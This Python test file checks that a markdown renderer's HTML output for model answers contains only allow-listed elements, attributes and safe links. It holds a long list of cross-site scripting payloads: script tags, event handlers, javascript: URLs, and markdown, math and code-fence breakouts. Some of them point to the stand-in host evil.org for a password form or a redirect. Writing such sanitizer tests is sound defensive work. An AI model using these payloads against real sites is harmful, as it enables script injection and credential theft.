"""Whatever a model writes, its answer holds no script, no style, and no way to somewhere else than it says."""

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from parley.markdown import whole

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.org></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    '<math href="javascript:alert(1)">x</math>',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<p style='position:fixed'>x</p>",
    "<body onload=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&Tab;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](https://a.b)',
    '[x](https://a.b "y\\" onclick=\\"alert(1)")',
    "[x](https://a.b '\" onmouseover=alert(1) ')",
    '[x](https://a.b/"onclick="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]\n\nwords\n\n[x]: javascript:alert(1)\n\nwords",
    "[x]: https://a.b '\"><script>alert(1)</script>'\n\n[x]",
    '```"><script>alert(1)</script>\nx\n```',
    "```x onload=alert(1)\nx\n```",
    "- ```\" onload='alert(1)\n  x\n  ```",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "    </code><script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- [x] <script>alert(1)</script>",
    r"\(\text{<script>alert(1)</script>}\)",
    r"\(\text{</mtext></math><img src=x onerror=alert(1)>}\)",
    r"\(\href{javascript:alert(1)}{x}\)",
    r"\(\color{red;background:url(javascript:alert(1))}{x}\)",
    r"\(\style{x\" onload=\"alert(1)}{x}\)",
    "$$<script>alert(1)</script>$$",
    r"$$\frac{<img src=x onerror=alert(1)>}$$",
    "\x02" + b"<script>alert(1)</script>".hex() + "\x03",
    "https://a.b/<script>alert(1)</script>",
    'https://a.b/"onclick="alert(1)',
    "<https://a.b/\"onclick='alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<br onclick=alert(1)>",
    "<br/onclick=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=//evil.org><input name=password>",
    "<base href=//evil.org>",
    "<meta http-equiv=refresh content=0;url=//evil.org>",
]

ELEMENTS = {
    *("a", "blockquote", "br", "code", "del", "div", "em", "figcaption", "figure", "h3", "h4", "h5", "h6", "hr", "li"),
    *("input", "ol", "p", "pre", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul"),
    *("math", "mfrac", "mi", "mn", "mo", "mrow", "mspace", "mstyle", "mtext"),
    "parley-copy",
}
ATTRIBUTES = {
    *(
        "aria-label",
        "checked",
        "class",
        "disabled",
        "href",
        "rel",
        "role",
        "scope",
        "start",
        "tabindex",
        "title",
        "type",
    ),
    *("display", "mathcolor", "stretchy", "fence", "form", "separator", "width"),
}


class Inspector(HTMLParser):
    """Reads a page as a browser does, and objects."""

    def handle_starttag(self, element: str, attributes: list[tuple[str, str | None]]) -> None:
        assert element in ELEMENTS
        for name, value in attributes:
            assert name in ATTRIBUTES
            assert name != "href" or (value or "").startswith(("https://", "http://", "mailto:"))

    def handle_comment(self, _: str) -> None:
        raise AssertionError("a comment")


def inspect(page: str) -> None:
    inspector = Inspector()
    inspector.feed(page)
    inspector.close()


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_only_words(attack: str) -> None:
    for text in (attack, f"> {attack}", f"- {attack}", f"*{attack}*", f"[{attack}](https://a.b)"):
        inspect(whole(text))


@settings(max_examples=200, deadline=None, derandomize=True)
@given(st.lists(st.sampled_from(ATTACKS) | st.text(alphabet="<>\"'`[]()\\$ \n=:/!-", max_size=5), max_size=6))
def test_attacks_in_each_other_s_company_are_only_words(parts: list[str]) -> None:
    inspect(whole("".join(parts)))
